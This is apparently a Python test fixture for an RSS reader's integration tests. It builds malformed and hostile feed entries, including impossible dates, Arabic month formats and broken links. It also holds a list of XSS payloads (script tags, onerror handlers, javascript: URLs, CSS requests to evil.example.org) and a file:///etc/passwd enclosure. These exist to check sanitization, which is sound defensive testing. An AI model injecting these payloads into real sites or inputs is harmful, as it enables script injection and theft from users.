"""Sources whose entries lie: of their names, their dates, what they hold."""

import html

from tests.integration.hostile.composing import SENTENCE, Bad, answer, entry, rss

_SCRIPTS = (
    "<script>steal()</script>",
    "<img src=x onerror=steal()>",
    "<svg onload=steal()><script>steal()</script></svg>",
    "<iframe src='https://evil.example.org/'></iframe>",
    "<style>p{background:url(https://evil.example.org/steal)}</style>",
    "<a href='java\nscript:steal()'>رابط</a>",
    "<a href=' &#106;avascript:steal()'>رابط</a>",
    "<form action=https://evil.example.org/><input name=steal></form>",
    "<p style='background:url(//evil.example.org/steal)' onclick='steal()'>فقرة</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "<object data='data:text/html,steal()'></object><base href='https://evil.example.org/'>",
    "<!--><img src=x onerror=steal()>--> <![CDATA[><img src=x onerror=steal()>]]>",
    "<template><img src=x onerror=steal()></template><meta http-equiv=refresh content='0;steal'>",
)
_NEVER = ("evil.example", "<script", "onerror", "onload", "onclick", "<style", "<iframe", "<svg")


def named() -> list[Bad]:
    """Return sources whose entries' names are not their own."""

    def three(name: str, **told: str | None) -> bytes:
        return answer(rss(*(entry(name, n, **told) for n in (1, 2, 3))))

    twins = [
        entry("one-title", n, title="كلمة العدد", description=html.escape(f"<p>{text}</p>"))
        for n, text in enumerate(
            (SENTENCE, "نص آخر لا يشبه الأول في شيء، عن السوق القديم وأهله."), 1
        )
    ]
    return [
        Bad(name="one-guid", says=three("one-guid", guid="1"), articles=3),
        Bad(name="no-guid", says=three("no-guid", guid=None), articles=3),
        Bad(name="no-names", says=three("no-names", guid=None, link=None), articles=3),
        Bad(name="all-home", says=three("all-home", link="http://home.example.org/"), articles=3),
        Bad(
            name="all-home-no-guid",
            says=three("all-home-no-guid", link="http://home.example.org/", guid=None),
            articles=3,
        ),
        Bad(
            name="script-link",
            says=three("script-link", link="javascript:steal()"),
            articles=3,
            never=("javascript",),
        ),
        Bad(
            name="data-link",
            says=three("data-link", link="data:text/html,x", guid="data:text/html,x"),
            articles=3,
            never=("data:",),
        ),
        Bad(
            name="port-link",
            says=three("port-link", link="http://port-link.example.org:99999/x"),
            articles=3,
        ),
        Bad(name="bracket-link", says=three("bracket-link", link="http://[bad/x"), articles=3),
        Bad(name="long-guid", says=answer(rss(entry("long-guid", guid="g" * 100_000))), articles=1),
        Bad(
            name="long-link",
            says=answer(rss(entry("long-link", link="http://long.example.org/" + "a" * 100_000))),
            articles=1,
        ),
        Bad(
            name="doubles",
            says=answer(rss(entry("doubles"), entry("doubles"), entry("doubles"))),
            articles=1,
        ),
        Bad(name="one-title", says=answer(rss(*twins)), articles=2),
        Bad(
            name="nothing-told",
            says=answer(rss("<item/>", "<item></item>", entry("nothing-told"))),
            articles=1,
            refused=2,
        ),
        Bad(name="title-only", says=answer(rss(entry("title-only", description=None))), articles=1),
        Bad(name="text-only", says=answer(rss(entry("text-only", title=None))), articles=1),
    ]


def dated() -> list[Bad]:
    """Return sources whose dates make no sense, or are written as people write them."""

    def on(name: str, date: str, articles: int = 1, holds: str = "") -> Bad:
        says = answer(rss(entry(name, pubDate=date)))
        return Bad(name=name, says=says, articles=articles, holds=(holds,) if holds else ())

    no_date = "published None"
    return [
        on("year-1", "Mon, 01 Jan 0001 00:00:00 GMT", holds=no_date),
        on("year-9999", "Fri, 31 Dec 9999 23:59:59 -1200", holds=no_date),
        on("year-99999", "99999-01-01T00:00:00Z", holds=no_date),
        on("epoch", "Thu, 01 Jan 1970 00:00:00 +0000", holds=no_date),
        on("february-31", "Tue, 31 Feb 2026 10:00:00 +0000", holds=no_date),
        on("nonsense-date", "أمس بعد العصر", holds=no_date),
        on("huge-date", "9" * 5000, holds=no_date),
        on("bad-zone", "Sun, 04 Jan 2026 08:00:00 +9999"),
        on("tomorrow", "Tue, 06 Jan 2026 08:00:00 +0000", articles=0),
        on("egypt-month", "3 يناير 2026", holds="published 2026-01-03"),
        on("levant-month", "٣ كانون الثاني ٢٠٢٦", holds="published 2026-01-03"),
        on("maghreb-month", "3 جانفي 2026", holds="published 2026-01-03"),
    ]


def holding() -> list[Bad]:
    """Return sources whose entries hold what no reader should get."""

    def with_text(name: str, text: str, **more: tuple[str, ...]) -> Bad:
        return Bad(
            name=name,
            says=answer(rss(entry(name, description=html.escape(text)))),
            articles=1,
            **more,
        )

    hostile = "".join(f"<div>{SENTENCE}{script}</div>" for script in _SCRIPTS)
    title = html.escape("عنوان <script>steal()</script><img src=x onerror=steal()> سليم")
    tags = "".join(f"<category>تصنيف {n}</category>" for n in range(300))
    enclosures = (
        "<enclosure url='http://media.example.org/a.mp3' length='-5'/><enclosure/>"
        "<enclosure url='file:///etc/passwd' type='audio/mpeg' length='99999999999999999999'/>"
        "<enclosure url='javascript:steal()' type='image/png'/>"
    )
    based = entry("xml-base", description=html.escape(f"<p>{SENTENCE} <a href='more'>مزيد</a></p>"))
    return [
        with_text("scripts", hostile, never=_NEVER, holds=("حارس المنارة",)),
        with_text("scripts-encoded", html.escape(hostile)),
        Bad(
            name="script-title",
            says=answer(rss(entry("script-title", title=title))),
            articles=1,
            never=_NEVER,
            holds=("سليم",),
        ),
        Bad(
            name="script-plain",
            says=answer(
                rss(
                    entry(
                        "script-plain",
                        author="x@example.org (<b onclick=steal()>هدى</b>)",
                        category="<script>steal()</script>",
                    )
                )
            ),
            articles=1,
            never=("<script", "<b"),
        ),
        Bad(
            name="long-title",
            says=answer(rss(entry("long-title", title="كلمة " * 20_000))),
            articles=1,
        ),
        Bad(
            name="long-word", says=answer(rss(entry("long-word", title="م" * 100_000))), articles=1
        ),
        Bad(
            name="categories",
            says=answer(rss(entry("categories").replace("</item>", f"{tags}</item>"))),
            articles=1,
        ),
        Bad(
            name="email-author",
            says=answer(rss(entry("email-author", author="huda@example.org (هدى العلي)"))),
            articles=1,
            never=("huda@",),
        ),
        Bad(
            name="enclosures",
            says=answer(rss(entry("enclosures").replace("</item>", f"{enclosures}</item>"))),
            articles=1,
            never=("file:", "javascript"),
            holds=("media.example.org",),
        ),
        with_text("tables", "<table><tr><td>" * 100 + SENTENCE),
        with_text("cdata-end", f"<p>{SENTENCE} ]]&gt; ]]> </p>", holds=("]]",)),
        with_text("encoded-twice", html.escape(f"<p>{SENTENCE}</p>"), holds=("حارس المنارة",)),
        with_text("bidi", f"<p>{SENTENCE} \u202e\u2066\u200f قلب\u2069\u202c</p>"),
        with_text("zalgo", f"<p>{SENTENCE} ك{'َ' * 50_000}</p>"),
        with_text(
            "relative",
            f"<p>{SENTENCE} <a href='more'>مزيد</a> <img src='/a.jpg'></p>",
            holds=("http://relative.example.org/more",),
        ),
        Bad(
            name="xml-base",
            says=answer(
                rss(based).replace("<item>", "<item xml:base='http://base.example.org/x/'>")
            ),
            articles=1,
            holds=("example.org",),
        ),
        Bad(
            name="bad-base",
            says=answer(
                rss(based.replace("xml-base", "bad-base")).replace(
                    "<item>", "<item xml:base='javascript:steal()//'>"
                )
            ),
            articles=1,
            never=("javascript",),
        ),
    ]
